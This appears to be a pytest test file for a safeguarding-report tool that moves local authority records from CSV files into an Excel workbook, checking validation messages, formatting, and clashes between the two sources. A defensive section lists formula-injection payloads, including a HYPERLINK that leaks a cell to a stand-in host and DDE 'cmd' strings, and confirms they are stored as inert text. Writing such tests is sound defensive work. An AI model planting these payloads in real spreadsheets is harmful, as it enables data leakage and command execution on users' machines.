"""records.xlsx: the workbook made from the models, read with the CSV files' checks."""

from __future__ import annotations

import csv
import datetime as dt
import shutil
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from conftest import last_year_built, project_copy
from safeguarding_report import cli
from safeguarding_report.core.errors import DataError
from safeguarding_report.core.store import TAKEN_INTO_WORKBOOK
from safeguarding_report.local import LocalRecords
from safeguarding_report.local.catalogue import CSV_TEMPLATES, WORKBOOK_FILE
from safeguarding_report.local.workbook import MAX_WIDTH, write_workbook
from safeguarding_report.workflows import inputs
from safeguarding_report.workflows import workbook as workbook_flow

ROOT = Path(__file__).resolve().parents[1]
KENT = "kent-2022"


def run(project: Path, *argv: str) -> int:
    return cli.main([*argv, "--root", str(project)])


def _to_workbook(project: Path) -> Path:
    """Kent's records moved from the CSV files into records.xlsx (as a user would)."""
    assert run(project, "workbook", str(project / f"params/{KENT}.yaml")) == 0
    folder = project / "data/local" / KENT
    assert not list(folder.glob("*.csv")), "workbook moves the CSV files it took in aside"
    return folder / WORKBOOK_FILE


@pytest.fixture
def workbook(kent_folder: Path) -> Path:
    return _to_workbook(kent_folder)


def test_the_workbook_is_made_from_the_declarations_with_the_rows_held(workbook: Path) -> None:
    book = load_workbook(workbook)
    assert book.sheetnames[0] == "About"
    assert book["Lists"].sheet_state == "hidden"
    reviews = book["reviews"]
    assert [c.value for c in reviews[1]] == list(CSV_TEMPLATES["reviews"].columns)
    assert reviews.freeze_panes == "A2"
    assert reviews["A1"].font.bold and reviews["A1"].fill.start_color.rgb.endswith("12436D")
    assert "Anonymised code for the case" in reviews["A1"].comment.text
    # Every column with allowed values has a drop-down list of exactly those values.
    kind = next(v for v in reviews.data_validations.dataValidation if "B2" in str(v.sqref))
    assert kind.type == "list"
    sheet, cells = kind.formula1.split("!")
    first, last = cells.replace("$", "").split(":")
    offered = [c.value for (c,) in book[sheet.strip("'")][first:last]]
    assert offered == [
        "serious incident notification",
        "rapid review",
        "local child safeguarding practice review",
        "serious case review (legacy)",
    ]
    assert reviews["C2"].number_format == "yyyy-mm-dd"
    assert isinstance(reviews["C2"].value, dt.datetime)  # a date, not text
    lado = book["lado"]
    assert isinstance(lado["B2"].value, int)
    about = [row[1] for row in book["About"].iter_rows(values_only=True) if row[1]]
    assert "reference (key)" in about
    # The rows held are those the CSV files held, in the same rows as the files' lines.
    records = LocalRecords.load(workbook.parents[2], KENT)
    expected = LocalRecords.load(ROOT / "data", KENT)
    for name in CSV_TEMPLATES:
        assert [r.data for r in records.rows(name)] == [r.data for r in expected.rows(name)]
        assert [r.line for r in records.rows(name)] == [r.line for r in expected.rows(name)]
    assert records.template_source("lado") == f"data/local/{KENT}/records.xlsx, sheet 'lado'"


def _edit(workbook: Path, sheet: str, cell: str, value: object) -> None:
    book = load_workbook(workbook)
    book[sheet][cell] = value
    book.save(workbook)


def test_a_wrong_value_names_workbook_sheet_row_column_and_allowed_values(workbook: Path) -> None:
    _edit(workbook, "reviews", "B5", "rapid reveiw")
    with pytest.raises(DataError) as caught:
        LocalRecords.load(workbook.parents[2], KENT)
    message = str(caught.value)
    assert message.startswith(
        f"data/local/{KENT}/records.xlsx, sheet 'reviews', row 5, column 'kind'"
    )
    assert "did you mean 'rapid review'?" in message
    assert "Expected one of: serious incident notification, rapid review" in message


def test_a_wrong_value_stops_the_build_naming_sheet_row_and_column(
    kent_folder: Path, workbook: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _edit(workbook, "lado", "B3", -4)
    shutil.copytree(ROOT / "notebooks", kent_folder / "notebooks")
    params_file = str(kent_folder / f"params/{KENT}.yaml")
    assert run(kent_folder, "build", "--params", params_file, "--no-pdf", "--quiet") == 1
    said = capsys.readouterr().err
    assert "records.xlsx, sheet 'lado', row 3, column 'count'" in said
    assert "Expected a whole number, 0 or more" in said
    assert not (kent_folder / "outputs" / KENT).exists()


def test_spreadsheet_values_are_read_as_a_spreadsheet_user_means_them(workbook: Path) -> None:
    book = load_workbook(workbook)
    reviews, lado = book["reviews"], book["lado"]
    notified = reviews["C2"].value
    reviews["C2"] = notified.strftime("%d/%m/%Y")  # a date typed as British text
    reviews["C3"] = reviews["C3"].value.date().isoformat() + "  "  # ISO text, trailing spaces
    reviews["B4"] = f"  {reviews['B4'].value}  "
    lado["B2"] = float(lado["B2"].value)  # 8.0: a number typed as a number
    for row in range(lado.max_row + 1, lado.max_row + 4):
        lado[f"A{row}"] = "   "  # empty rows at the end, with only spaces
    book.save(workbook)
    records = LocalRecords.load(workbook.parents[2], KENT)
    expected = LocalRecords.load(ROOT / "data", KENT)
    for name in ("reviews", "lado"):
        assert [r.data for r in records.rows(name)] == [r.data for r in expected.rows(name)]


def test_a_formula_without_its_saved_value_is_refused(workbook: Path) -> None:
    _edit(workbook, "lado", "B4", "=2+2")  # openpyxl saves no value with it
    with pytest.raises(DataError, match=r"sheet 'lado', row 4, column 'count': the cell holds a "
                       r"formula with no saved value"):  # fmt: skip
        LocalRecords.load(workbook.parents[2], KENT)


def test_records_in_the_workbook_and_a_csv_file_stop_the_load_naming_both(
    workbook: Path,
) -> None:
    folder = workbook.parent
    (aside,) = folder.glob(f"{TAKEN_INTO_WORKBOOK}*")
    shutil.copyfile(aside / "key_messages.csv", folder / "key_messages.csv")  # put back by hand
    with pytest.raises(DataError) as caught:
        LocalRecords.load(workbook.parents[2], KENT)
    message = str(caught.value)
    assert "records.xlsx, sheet 'key_messages'" in message
    assert f"data/local/{KENT}/key_messages.csv" in message and "in one place only" in message


def test_the_command_a_clash_names_resolves_it_and_keeps_the_workbook_as_it_was(
    workbook: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Records in both places: ``workbook`` takes the CSV file's rows in (the file the clash
    message tells the user to take in) and keeps the workbook it replaces beside the CSV."""
    folder, project = workbook.parent, workbook.parents[3]
    (aside,) = folder.glob(f"{TAKEN_INTO_WORKBOOK}*")
    edited = (
        (aside / "key_messages.csv")
        .read_text(encoding="utf-8")
        .replace("We changed", "We edited and changed", 1)
    )
    (folder / "key_messages.csv").write_text(edited, encoding="utf-8")
    before = workbook.read_bytes()
    params_file = str(project / f"params/{KENT}.yaml")
    assert run(project, "check", params_file) == 1
    assert "`safeguarding-report workbook PARAMS` takes the CSV files" in capsys.readouterr().out
    made = workbook_flow.make(Path(params_file), project)
    assert made.aside is not None
    assert (made.aside / WORKBOOK_FILE).read_bytes() == before, "the old workbook is kept"
    assert (made.aside / "key_messages.csv").read_text(encoding="utf-8") == edited
    assert not list(folder.glob("*.csv"))
    records = LocalRecords.load(project / "data", KENT)
    assert any("We edited and changed" in str(r.data) for r in records.rows("key_messages"))


def test_an_unknown_sheet_is_named(workbook: Path) -> None:
    book = load_workbook(workbook)
    book.create_sheet("reveiws")
    book.save(workbook)
    with pytest.raises(DataError, match=r"sheet 'reveiws': this sheet is not one of the record "
                       r"types \(did you mean 'reviews'\?\)"):  # fmt: skip
        LocalRecords.load(workbook.parents[2], KENT)


def test_check_lists_the_workbooks_sheets_with_their_state(
    kent_folder: Path, workbook: Path
) -> None:
    _edit(workbook, "audits", "B3", "everyone")
    rows = {r.name: r for r in inputs.check(kent_folder / f"params/{KENT}.yaml", kent_folder)}
    shown = f"data/local/{KENT}/records.xlsx"
    assert rows[shown].state == inputs.VALID
    assert (rows[f"{shown}, sheet 'reviews'"].state, rows[f"{shown}, sheet 'reviews'"].detail) == (
        inputs.VALID, "29 rows",
    )  # fmt: skip
    audits = rows[f"{shown}, sheet 'audits'"]
    assert audits.state == inputs.INVALID and audits.blocks
    assert "row 3, column 'kind'" in audits.detail
    assert not any(n.startswith(f"data/local/{KENT}/") and n.endswith(".csv") for n in rows)


def test_new_with_a_workbook_starts_with_empty_sheets_and_no_csv_files(tmp_path: Path) -> None:
    (tmp_path / "data/local").mkdir(parents=True)
    (tmp_path / "data/published").symlink_to(ROOT / "data/published", target_is_directory=True)
    assert (
        cli.main(["new", "E08000003", "--year", "2024", "--workbook", "--root", str(tmp_path)]) == 0
    )
    folder = tmp_path / "data/local/manchester-2024"
    assert (folder / WORKBOOK_FILE).is_file()
    assert not list(folder.glob("*.csv"))
    records = LocalRecords.load(tmp_path / "data", "manchester-2024")
    assert "reviews" not in records.missing and records.rows("reviews") == []
    assert records.sheets().keys() >= {"reviews", "partners", "lado"}


@pytest.mark.build
def test_new_year_carries_the_partnership_over_in_next_years_workbook(
    kent_folder: Path, workbook: Path, default_report: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    last_year_built(kent_folder, default_report)
    assert run(kent_folder, "new-year", str(kent_folder / f"params/{KENT}.yaml")) == 0
    said = capsys.readouterr().out
    assert "data/local/kent-2023/records.xlsx, sheet 'partners'" in said
    records = LocalRecords.load(kent_folder / "data", "kent-2023")
    assert len(records.rows("partners")) == 8 and records.rows("reviews") == []
    # Last year's promises, made this year's priorities and measures, in their sheets.
    made = [r.data for r in records.rows("priorities")]
    assert [(p.id, p.status) for p in made] == [(f"P{n}", None) for n in range(1, 5)]  # type: ignore[attr-defined]
    assert len(records.rows("priority_measures")) == 9
    assert not list((kent_folder / "data/local/kent-2023").glob("*.csv"))


def test_a_workbook_written_from_nothing_loads_as_every_template_empty(tmp_path: Path) -> None:
    folder = tmp_path / "data/local/x"
    write_workbook(folder / WORKBOOK_FILE, CSV_TEMPLATES.values())
    records = LocalRecords.load(tmp_path / "data", "x")
    assert all(records.rows(name) == [] for name in CSV_TEMPLATES)


def test_making_the_workbook_again_keeps_its_rows_and_lists_no_csv_file(
    kent_folder: Path, workbook: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _edit(workbook, "lado", "B2", 9)
    capsys.readouterr()
    assert run(kent_folder, "workbook", str(kent_folder / f"params/{KENT}.yaml")) == 0
    said = capsys.readouterr().out
    assert "moved" not in said, "no CSV file is left to take in"
    assert len(list(workbook.parent.glob(f"{TAKEN_INTO_WORKBOOK}*"))) == 1
    records = LocalRecords.load(kent_folder / "data", KENT)
    assert records.rows("lado")[0].data.count == 9  # type: ignore[attr-defined]
    assert len(records.rows("reviews")) == 29


# -- taking the CSV files in: the next build reads the workbook ---------------------------------


@pytest.mark.build
def test_workbook_moves_the_csv_files_aside_and_the_next_build_reads_the_workbook(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    project = project_copy(tmp_path)
    folder = project / "data/local" / KENT
    csv_files = sorted(p.name for p in folder.glob("*.csv"))
    narratives = sorted(p.name for p in folder.glob("*.md"))
    params_file = str(project / f"params/{KENT}.yaml")
    assert run(project, "workbook", params_file) == 0
    said = capsys.readouterr().out
    aside = folder / f"{TAKEN_INTO_WORKBOOK}{dt.date.today()}"
    assert f"moved the {len(csv_files)} CSV files it took in to {aside}/" in said
    assert sorted(p.name for p in aside.iterdir()) == csv_files
    assert not list(folder.glob("*.csv"))
    assert sorted(p.name for p in folder.glob("*.md")) == narratives, "narratives stay"

    # check and the build read the workbook, and not the files set aside.
    assert run(project, "check", params_file) == 0
    listed = capsys.readouterr().out
    assert "records.xlsx, sheet 'reviews'" in listed and TAKEN_INTO_WORKBOOK not in listed
    assert run(project, "build", params_file, "--no-pdf", "--quiet") == 0
    figures = (project / "outputs" / KENT / "figures.csv").read_text(encoding="utf-8")
    assert f"data/local/{KENT}/records.xlsx, sheet 'lado'" in figures
    assert f"data/local/{KENT}/lado.csv" not in figures and TAKEN_INTO_WORKBOOK not in figures


def test_a_second_taking_in_the_same_day_goes_to_a_folder_of_its_own(kent_folder: Path) -> None:
    folder = kent_folder / "data/local" / KENT
    day = dt.date(2024, 5, 1)
    earlier = folder / f"{TAKEN_INTO_WORKBOOK}2024-05-01"
    earlier.mkdir()
    (earlier / "lado.csv").write_text("from this morning\n", encoding="utf-8")
    made = workbook_flow.make(kent_folder / f"params/{KENT}.yaml", kent_folder, today=day)
    assert made.aside == folder / f"{TAKEN_INTO_WORKBOOK}2024-05-01-2"
    assert (earlier / "lado.csv").read_text(encoding="utf-8") == "from this morning\n"
    assert (made.aside / "lado.csv").read_bytes() == (
        ROOT / f"data/local/{KENT}/lado.csv"
    ).read_bytes()
    assert {p.name for p in made.moved} == {p.name for p in made.aside.iterdir()}
    assert all(p.parent == made.aside for p in made.moved)


# -- what the sheets say and show ----------------------------------------------------------------


def test_header_comments_name_the_sheet_and_column_a_value_refers_to(workbook: Path) -> None:
    book = load_workbook(workbook)
    comments = {
        (sheet.title, cell.value): cell.comment.text
        for sheet in book.worksheets
        if sheet.title in CSV_TEMPLATES
        for cell in sheet[1]
    }
    assert comments[("funding", "partner")].startswith(
        "A partner named in sheet 'partners' (column 'partner')."
    )
    assert comments[("recommendations", "review")].startswith(
        "A reference in sheet 'reviews' (column 'reference')."
    )
    assert comments[("training_attendance", "course_id")].startswith(
        "A course_id in sheet 'training_courses' (column 'course_id')."
    )
    about = [c for row in book["About"].iter_rows(values_only=True) for c in row if c]
    prompts = [
        v.prompt for s in book.worksheets for v in s.data_validations.dataValidation if v.prompt
    ]
    for text in [*comments.values(), *about, *prompts]:
        assert ".csv" not in str(text), text


def test_every_column_is_as_wide_as_its_header_and_longest_value(workbook: Path) -> None:
    book = load_workbook(workbook)
    for sheet in book.worksheets:
        if sheet.title not in CSV_TEMPLATES:
            continue
        for index, column in enumerate(sheet.iter_cols(values_only=True), start=1):
            letter = get_column_letter(index)
            width = sheet.column_dimensions[letter].width
            shown = [
                v.strftime("%Y-%m-%d") if isinstance(v, dt.datetime) else str(v)
                for v in column
                if v is not None
            ]
            longest = max(len(v) for v in shown)
            assert min(longest, MAX_WIDTH) <= width <= MAX_WIDTH, (sheet.title, column[0])
    reviews = book["reviews"]
    # The drop-down's longest value fits too, before any row holds it.
    assert reviews.column_dimensions["B"].width >= len("local child safeguarding practice review")


# -- text that looks like a formula, and what the workbook refuses ---------------------------

# Text a spreadsheet would run as a formula (or the start of one): a link that leaks a cell,
# a program started through DDE, and the other starts OWASP names.
FORMULA_LIKE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-1+cmd|' /C calc'!A0",
]


def test_text_like_a_formula_is_written_as_text_and_read_back_as_written(
    kent_folder: Path,
) -> None:
    folder = kent_folder / "data/local" / KENT
    with (folder / "voice.csv").open("a", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([text, "Said in a forum.", text] for text in FORMULA_LIKE)
    expected = [r.data for r in LocalRecords.load(kent_folder / "data", KENT).rows("voice")]
    path = _to_workbook(kent_folder)
    # No cell of any sheet is a formula: the sheets' XML has no <f> element at all.
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == len(load_workbook(path).sheetnames)
        for name in sheets:
            assert (
                "<f>" not in archive.read(name).decode()
                and "<f " not in archive.read(name).decode()
            )
    book = load_workbook(path)
    written = [c for row in book["voice"].iter_rows() for c in row if c.value in FORMULA_LIKE]
    assert len(written) == 2 * len(FORMULA_LIKE)
    assert all(c.data_type == "s" and c.quotePrefix for c in written)  # stays text when edited
    # The next build reads the kit's own workbook, each text as it was written.
    records = LocalRecords.load(kent_folder / "data", KENT)
    assert [r.data for r in records.rows("voice")] == expected


def test_every_sheet_the_workbook_writes_holds_no_formula(tmp_path: Path) -> None:
    """The rule holds for every sheet (About and the hidden Lists too), whatever a row holds."""
    held = {"voice": [m.model_construct(source=t, what_was_said=t, what_changed=t)
                      for m in [CSV_TEMPLATES["voice"].model] for t in FORMULA_LIKE]}  # fmt: skip
    path = write_workbook(tmp_path / WORKBOOK_FILE, CSV_TEMPLATES.values(), held)
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert not any(c.data_type == "f" for c in row), sheet.title


def test_a_value_linked_to_another_workbook_is_refused_naming_the_cell(workbook: Path) -> None:
    _edit(workbook, "lado", "B3", "=[1]Sheet1!A1")
    with pytest.raises(DataError) as caught:
        LocalRecords.load(workbook.parents[2], KENT)
    message = str(caught.value)
    assert message.startswith(
        f"data/local/{KENT}/records.xlsx, sheet 'lado', row 3, column 'count' (cell B3): the "
        "value comes from another workbook or program (formula =[1]Sheet1!A1"
    )
    assert "Data > Edit Links > Break Link" in message


def test_a_workbook_with_macros_is_refused(workbook: Path) -> None:
    with zipfile.ZipFile(workbook, "a") as archive:
        archive.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0")
    with pytest.raises(DataError, match=r"records.xlsx: the file holds macros \(xl/vbaProject"):
        LocalRecords.load(workbook.parents[2], KENT)


def test_the_kits_own_workbook_is_read_in_seconds(workbook: Path) -> None:
    """All of Kent's records from the workbook, within the limits' checks (its parts parsed
    once before the rows, a sheet with no formula read once): well within the time a damaged
    file may take to be refused."""
    started = time.monotonic()
    records = LocalRecords.load(workbook.parents[2], KENT)
    assert time.monotonic() - started < 10
    assert len(records.rows("reviews")) == 29
